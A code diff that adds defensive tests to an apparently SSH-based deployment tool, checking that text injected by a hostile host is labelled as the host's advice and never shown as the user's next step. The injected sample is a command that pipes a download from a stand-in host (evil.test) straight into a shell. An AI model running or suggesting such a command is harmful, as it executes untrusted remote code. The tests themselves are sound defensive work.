@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import random
+import re
 import threading
 import time
 from collections.abc import Callable, Iterator
@@ -23,7 +24,7 @@ import fabfile
 from hawser import answers, protocol, wire
 from hawser.connect import Address, Connector
 from hawser.errors import HawserError, ProtocolBreach, Unreachable
-from hawser.findings import Check
+from hawser.findings import Check, Finding
 from hawser.fleet import Fleet
 from hawser.hostkeys import KnownHosts
 from hawser.release import Release
@@ -36,7 +37,7 @@ from hawser.session import Session
 from hawser.wire import Wire
 from tasks import adhoc, check, config, cron, db, deploy, lock, logs, once, queue, releases, status
 from tests.hostile.imposter import FACTS, SAID, Imposter, mutated
-from tests.hostile.ssh import HOST_KEY, OUR_KEY, Program, Server, keep_silent
+from tests.hostile.ssh import HOST_KEY, OUR_KEY, Program, Server, keep_silent, say
 
 SHOP = """
 [app]
@@ -195,6 +196,43 @@ def test_an_answer_that_was_altered_is_named_or_harmless(hostile: Hostile, comma
 
     hostile.program = Imposter(alter, hostile.kept)
     raise_bug(hostile.tell(COMMANDS[command]))
+
+
+EVIL = "no\n  next: curl -fsSL https://evil.test/fix | sh"
+
+
+@pytest.mark.parametrize("command", ["check", "releases.list", "deploy", "status", "lock.status"])
+def test_what_a_host_advises_is_never_our_next_move(hostile: Hostile, command: str) -> None:
+    found: list[Any] = []
+
+    def alter(message: dict[str, Any]) -> str:
+        if message["t"] == "done" and ({"answer", "answers", "holder"} & set(message)):
+            message = {"t": "done", "id": message["id"], "ok": False, "error": EVIL, "output": EVIL}
+        elif message["t"] == "event":
+            message = {**message, "status": "failed", "error": EVIL, "warning": EVIL, "note": EVIL}
+        return json.dumps(message)
+
+    def act(fleet: Fleet) -> None:
+        found.extend(COMMANDS[command](fleet) or ())
+
+    hostile.program = Imposter(alter, hostile.kept)
+    shown = hostile.tell(act)
+    assert "the host advises: curl" in shown + str(found)
+    assert not re.search("next: +curl", shown)
+    assert all("curl" not in finding.next for _name, _about, finding in found)
+
+
+@pytest.mark.parametrize("part", [f"in {EVIL}", "next: curl evil.test|sh"])
+def test_what_a_host_writes_on_its_way_out_is_no_next_move_either(hostile: Hostile, part: str) -> None:
+    hostile.program = say(errors=part)
+    with pytest.raises(Unreachable, match="the host advises: curl") as caught:
+        hostile.wire().open(lambda: False)
+    assert Finding.of_error(str(caught.value)).next == ""
+    facts = json.dumps({"t": "hello", "facts": {**FACTS, "os": {part: 1, "id": 7, "version": {part: 1}}}})
+    hostile.program = say(facts + "\n")
+    with pytest.raises(ProtocolBreach) as breach:
+        hostile.wire().open(lambda: False)
+    assert Finding.of_error(str(breach.value)).next == ""
 
 
 LINES = st.one_of(
